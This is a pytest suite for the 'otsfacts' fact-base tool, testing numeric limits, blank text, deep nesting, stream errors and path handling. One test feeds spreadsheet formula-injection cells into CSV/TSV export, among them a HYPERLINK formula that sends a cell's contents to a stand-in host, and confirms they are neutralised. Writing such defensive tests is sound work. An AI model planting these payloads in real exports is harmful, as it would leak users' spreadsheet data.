"""Issue 16's faults, each run as the real command: numbers JSON cannot hold, text that says
nothing, entries that repeat themselves, nesting that blows the stack."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from conftest import FIXTURE_BASE, run_process

ONLY_FIXTURE = ["--no-builtin", "--facts", str(FIXTURE_BASE)]


def _fact_file(tmp_path: Path, **fields: str) -> Path:
    """A file of one fact on the fixture base's source and topic, ``fields`` written as TOML values."""
    values = {"id": '"extra"', "claim": '"An extra claim."', "quote": '"the corridor"',
              "source": '"daily-2025-01-02"', "topics": '["transport"]', "kind": '"statement"', **fields}
    path = tmp_path / "extra.toml"
    path.write_text("[[fact]]\n" + "".join(f"{k} = {v}\n" for k, v in values.items()), encoding="utf-8")
    return path


def _key_line(path: Path, key: str) -> int:
    """The line of ``key = ...`` in a file _fact_file wrote: where loading and check point a problem."""
    return next(n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                if line.startswith(f"{key} = "))


def _one_error(result: subprocess.CompletedProcess[str], code: int) -> str:
    assert result.returncode == code, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    return result.stderr


# ---------------------------------------------------------------------- numbers


def test_values_json_cannot_hold_are_refused_by_loading_and_check(tmp_path: Path) -> None:
    for written in ("inf", "-inf", "1e400", "nan", "9223372036854775808", "1" + "0" * 4000):
        path = _fact_file(tmp_path, value=written, unit='"km"')
        message = f"{path}:8: extra: value: must be a finite number between -2^63 and 2^63"  # at the key, as check
        assert message in _one_error(run_process("list", "--json", *ONLY_FIXTURE, "--facts", str(path)), 2)
        checked = run_process("check", "--no-builtin", str(FIXTURE_BASE), str(path))
        assert checked.returncode == 1, written
        assert f"{path}:8: error: extra: value: must be a finite number between -2^63 and 2^63" \
            in checked.stdout.splitlines(), (written, checked.stdout)


def test_the_largest_value_is_written_as_strict_json(tmp_path: Path) -> None:
    path = _fact_file(tmp_path, value="9223372036854775807", unit='"km"')
    result = run_process("show", "extra", "--json", *ONLY_FIXTURE, "--facts", str(path))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout, parse_constant=lambda c: 1 / 0)[0]["value"] == 2 ** 63 - 1


# ------------------------------------------------------------------------ text


def test_claims_and_quotes_need_a_letter_or_digit(tmp_path: Path) -> None:
    for key, written in (("quote", '"\\u200b\\u200c\\u200d"'), ("claim", '" — … "')):
        path = _fact_file(tmp_path, **{key: written})
        assert (f"{path}:{_key_line(path, key)}: extra: {key}: must hold at least one letter or digit"
                in _one_error(run_process("list", *ONLY_FIXTURE, "--facts", str(path)), 2))


# ------------------------------------------------------------ spreadsheets and TSV


def test_csv_and_tsv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    path = _fact_file(tmp_path, claim='"=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Click\\")"',
                      quote='"+the corridor"', place='"@SUM(A1:A9)"', unit='"-2+3"', value="-5",
                      aliases='["\\tcmd", "\\rcmd"]')
    fields = ["--fields", "claim,quote,place,unit,value,aliases"]
    args = ["show", "extra", *ONLY_FIXTURE, "--facts", str(path), *fields]
    csv_out = run_process(*args, "--format", "csv").stdout
    assert csv_out.splitlines()[1] == (
        '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")",\'+the corridor,\'@SUM(A1:A9),\'-2+3,-5,'
        "'\tcmd;\\x0dcmd")  # a carriage return is shown as text (printable), a tab kept
    tsv_out = run_process(*args, "--format", "tsv").stdout
    assert tsv_out.splitlines()[1] == (
        '\'=HYPERLINK("http://x.example/?"&A1,"Click")\t\'+the corridor\t\'@SUM(A1:A9)\t\'-2+3\t-5\t\'\\tcmd;\\\\x0dcmd')
    raw = run_process("--raw-cells", *args, "--format", "csv").stdout
    assert raw.splitlines()[1].startswith('"=HYPERLINK(""http://x.example/?""&A1,""Click"")",+the corridor,@SUM')


def test_tsv_escapes_every_line_break_so_a_record_is_one_line(tmp_path: Path) -> None:
    path = _fact_file(tmp_path, claim='"One\\u2028two\\u2029three\\u0085four."')
    result = run_process("show", "extra", *ONLY_FIXTURE, "--facts", str(path), "--format", "tsv",
                         "--fields", "id,claim")
    assert result.stdout.encode("utf-8").splitlines() == [b"id\tclaim", b"extra\tOne\\u2028two\\u2029three\\\\x85four."]


# ------------------------------------------------------------------- linear checks


def test_a_long_unexplained_abbreviation_is_reported_without_backtracking_for_ever(tmp_path: Path) -> None:
    """A 600-byte file: trying every way its words could spell the abbreviation took minutes."""
    words = " ".join(["aaaaaaaaaa"] * 24)
    path = _fact_file(tmp_path, claim=f'"The {"A" * 40}Z met: {words}."', kind='"statement"')
    result = run_process("check", "--no-builtin", str(FIXTURE_BASE), str(path))  # times out after 60 s
    assert result.returncode == 0, result.stderr
    assert result.stdout == (f"{path}:3: warning: extra: aliases: uses the abbreviation {'A' * 40}Z, "
                             "but no alias spells it out\n")


def test_every_problem_of_a_big_file_names_its_own_line(tmp_path: Path) -> None:
    entry = ('[[fact]]\nid = "f{n}"\nclaim = "Claim {n}."\nquote = "the corridor"\nsource = "daily-2025-01-02"\n'
             'topics = ["transprot"]\nkind = "statement"\n\n')
    path = tmp_path / "many.toml"
    path.write_text("".join(entry.format(n=n) for n in range(500)), encoding="utf-8")
    loaded = run_process("list", *ONLY_FIXTURE, "--facts", str(path))
    assert f"{path}:6: f0: topics: unknown topic 'transprot' (and 499 more problems" in loaded.stderr
    checked = run_process("check", "--no-builtin", str(FIXTURE_BASE), str(path))
    assert checked.stdout.splitlines() == [
        f"{path}:{8 * n + 6}: error: f{n}: topics: unknown topic 'transprot'" for n in range(500)]


# --------------------------------------------------------------- streams and paths


def _run_with(*args: str, stdout: object = subprocess.PIPE, stderr: object = subprocess.PIPE,
              close: tuple[int, ...] = ()) -> subprocess.CompletedProcess[bytes]:
    """The real command with its streams as given; ``close`` closes those descriptors in the child."""
    import os
    import sys

    def closing() -> None:
        for fd in close:
            os.close(fd)

    return subprocess.run([sys.executable, "-m", "otsfacts", *args], stdout=stdout, stderr=stderr,
                          preexec_fn=closing, timeout=60)


def test_a_closed_or_full_stdout_is_one_error_line_and_exit_2() -> None:
    closed = _run_with("topics", stdout=None, close=(1,))
    assert (closed.returncode, closed.stderr) == (
        2, b"otsfacts: error: cannot write output: standard output is closed\n")
    with open("/dev/full", "w") as full:
        result = _run_with("list", *ONLY_FIXTURE, stdout=full)
    assert (result.returncode, result.stderr) == (2, b"otsfacts: error: cannot write output: No space left on device\n")


def test_an_unwritable_stderr_never_changes_the_exit_status() -> None:
    for args, status in ((["show", "nope", *ONLY_FIXTURE], 2), (["check"], 0), (["search", "zzqx", *ONLY_FIXTURE], 1),
                         (["list", *ONLY_FIXTURE], 0)):
        assert _run_with(*args, stderr=None, close=(2,)).returncode == status, args
        with open("/dev/full", "w") as full:
            assert _run_with(*args, stderr=full).returncode == status, args


def test_a_path_that_cannot_be_read_is_named_with_the_reason(tmp_path: Path) -> None:
    long = tmp_path / ("x" * 300)
    for result in (run_process("list", "--facts", str(long / "a.toml")), run_process("topics", env={"OTSFACTS_PATH": str(long)})):
        assert _one_error(result, 2).endswith(": cannot read: File name too long\n")
    checked = run_process("check", str(long))
    assert (checked.returncode, checked.stdout) == (1, f"{long}: error: cannot read: File name too long\n")
    completion = run_process(env={"OTSFACTS_PATH": str(long), "_OTSFACTS_COMPLETE": "complete_bash",
                                  "COMP_WORDS": "otsfacts show twelfth", "COMP_CWORD": "2"})
    assert (completion.returncode, completion.stdout.strip(), completion.stderr) == (0, "", "")


def test_empty_paths_and_scores_out_of_range_are_usage_errors(tmp_path: Path) -> None:
    for args, message in ((["list", "--facts", ""], "an empty path names no file"),
                          (["check", ""], "an empty path names no file"),
                          (["search", "wind", "--min-score", "nan"], "nan is not a number from 0 to 100"),
                          (["search", "wind", "--min-score", "inf"], "inf is not a number from 0 to 100"),
                          (["search", "wind", "--min-score", "-1"], "-1 is not a number from 0 to 100")):
        assert message in _one_error(run_process(*args, cwd=tmp_path), 2), args


# ------------------------------------------------------------------ malformed input


def test_toml_nested_too_deeply_is_named(tmp_path: Path) -> None:
    path = tmp_path / "deep.toml"
    path.write_text("x = " + "[" * 1000 + "]" * 1000 + "\n", encoding="utf-8")
    assert _one_error(run_process("list", "--facts", str(path)), 2) == (
        f"otsfacts: error: {path}: TOML nested too deeply\n")
    checked = run_process("check", str(path))
    assert (checked.returncode, checked.stdout) == (1, f"{path}: error: TOML nested too deeply\n")


def test_a_topic_alias_or_conflict_listed_twice_is_an_error(tmp_path: Path) -> None:
    for key, written, item in (("topics", '["transport", "transport"]', "transport"),
                               ("aliases", '["TITR", "TITR"]', "TITR"),
                               ("conflicts_with", '["corridor-opened", "corridor-opened"]', "corridor-opened")):
        path = _fact_file(tmp_path, **{key: written})
        assert f"{path}:{_key_line(path, key)}: extra: {key}: lists {item!r} more than once" in _one_error(
            run_process("list", *ONLY_FIXTURE, "--facts", str(path)), 2)


def test_a_newline_or_tab_in_a_path_cannot_forge_a_line(tmp_path: Path) -> None:
    folder = tmp_path / "two\nlines\there"
    folder.mkdir()
    path = _fact_file(folder, topics='["nowhere"]')
    loaded = run_process("list", *ONLY_FIXTURE, "--facts", str(path))
    escaped = str(path).replace("\n", "\\n").replace("\t", "\\t")
    assert _one_error(loaded, 2).startswith(f"otsfacts: error: {escaped}:6: extra: topics: unknown topic")
    checked = run_process("check", "--no-builtin", str(FIXTURE_BASE), str(path))
    assert checked.stdout == f"{escaped}:6: error: extra: topics: unknown topic 'nowhere'\n"
    assert checked.stderr.count("\n") == 1


def test_new_refuses_a_claim_that_is_not_utf8() -> None:
    import os
    import sys

    result = subprocess.run([sys.executable, "-m", "otsfacts", "new", "-s", "trend-2025-10-27", "-t", "energy",
                             "--claim", os.fsdecode(b"caf\xe9 claim")], capture_output=True, timeout=60)
    assert result.returncode == 2
    assert result.stdout == b""
    assert result.stderr.startswith(b"otsfacts: error: ") and b"--claim" in result.stderr
    assert b"is not UTF-8 text" in result.stderr


# ------------------------------------------------------------------------- scale


def test_a_long_query_searches_at_most_the_capped_words_and_postings(monkeypatch: object) -> None:
    from otsfacts import index as search_module  # the caps live with the index
    from otsfacts.search import SearchIndex
    from otsfacts.store import load_base

    index = SearchIndex.from_base(load_base(use_env=False))
    words = [f"word{n}" for n in range(40)] + ["word0"]
    kept, expansions = index._capped_expansions(words)
    assert kept == words[:search_module.MAX_QUERY_WORDS] + ["word0"]  # a repeat of a kept word stays
    common, rare = "states", "gabala"

    def cost(word: str) -> int:
        return sum(index.postings.count(other) for other in index.expand(word))

    assert cost(common) > cost(rare) > 0
    assert index._capped_expansions([common, rare])[0] == [common, rare]  # a short query is never cut
    monkeypatch.setattr(search_module, "MAX_QUERY_POSTINGS", cost(rare))  # type: ignore[attr-defined]
    monkeypatch.setattr(search_module, "UNCAPPED_WORDS", 1)  # type: ignore[attr-defined]
    kept, expansions = index._capped_expansions([common, rare])
    assert kept == [rare] and expansions == [index.expand(rare)]  # the commonest word is left out first
    hits = index.search("gabala " * 140)  # 980 characters, the longest a query may be
    assert hits and all(hit.matches[0].matched == "gabala" for hit in hits)  # what one "gabala" finds


def _without_privilege() -> list[str]:
    """A command prefix under which permissions apply: none for a user, and for root a
    setpriv that drops every capability (root would otherwise search any folder)."""
    import shutil

    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("root searches any folder, and setpriv is not there to drop that")
    return ["setpriv", "--bounding-set", "-all"]


def test_a_folder_that_cannot_be_searched_is_named(tmp_path: Path) -> None:
    import sys

    prefix = _without_privilege()
    locked = tmp_path / "locked"
    (locked / "inner").mkdir(parents=True)
    locked.chmod(0o600)  # its names can be listed, but not looked at
    environ = {k: v for k, v in os.environ.items() if not k.startswith("OTSFACTS")}
    try:
        for args, extra in ((["list", "--facts", str(locked)], {}), (["topics"], {"OTSFACTS_PATH": str(locked)})):
            result = subprocess.run([*prefix, sys.executable, "-m", "otsfacts", *args], capture_output=True,
                                    text=True, timeout=60, env={**environ, **extra})
            assert _one_error(result, 2) == f"otsfacts: error: {locked / 'inner'}: cannot read: Permission denied\n"
    finally:
        locked.chmod(0o700)
